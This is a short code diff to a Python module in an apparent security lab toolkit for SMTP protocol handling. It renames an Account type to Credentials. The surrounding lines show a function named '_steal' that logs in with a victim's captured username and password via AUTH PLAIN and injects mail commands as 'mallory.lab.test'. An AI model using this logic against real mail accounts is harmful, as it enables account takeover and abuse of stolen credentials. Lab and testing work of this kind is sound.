@@ -10,8 +10,8 @@ from labkit.dialects.framing.coded_lines import CHUNK, CREDENTIAL, TEXT, CodedLi
 from labkit.dialects.reader import WAIT, Buffer, text_end
 from labkit.dialects.smtp_words import CAPABILITIES, COMMANDS, REPLIES, explain
 from labkit.dialects.writing import (
-    Account,
     Capabilities,
+    Credentials,
     Injected,
     Writer,
     lines,
@@ -77,7 +77,7 @@ def _recognises(server: bytes, client: bytes) -> bool:
     return bool(_GREETING.match(server) or (_HELLO.match(client) and _GREETING_CODE.match(server)))
 
 
-def _steal(tag: str, account: Account, _: int) -> bytes:
+def _steal(tag: str, account: Credentials, _: int) -> bytes:
     """Each command earns just the reply that the victim waits for; behind DATA its own words are the message."""
     commands = ("EHLO mallory.lab.test", f"AUTH PLAIN {plain(account.user, account.password)}")
     envelope = (f"MAIL FROM:<{account.address}>", f"RCPT TO:<{account.address}>", "DATA")
